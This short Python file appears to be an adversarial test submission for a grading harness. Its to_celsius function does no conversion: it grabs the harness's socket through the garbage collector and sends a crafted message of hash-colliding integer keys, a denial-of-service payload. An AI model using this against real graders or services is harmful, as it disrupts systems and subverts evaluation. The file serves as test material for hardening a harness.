# Sends a dict whose keys collide. 0 points.
import gc
import os
import socket
import struct
import time


def channel():
    return next(thing for thing in gc.get_objects() if isinstance(thing, socket.socket))


def items(*parts):
    return b"t" + struct.pack("<II", 0, len(parts)) + b"".join(parts)


def text(value):
    return b"s" + struct.pack("<I", len(value)) + value.encode()


def send(kind, body):
    channel().sendall(kind + struct.pack("<I", len(body)) + body)


def to_celsius(fahrenheit):
    keys = b"".join(b"I" + struct.pack("<H", 256) + (n * (2**61 - 1)).to_bytes(256, "little") + b"N" for n in range(1, 4900))
    send(b"A", items(text("ok"), b"m" + struct.pack("<II", 0, 4899) + keys, items(), items()))
warmest = to_celsius
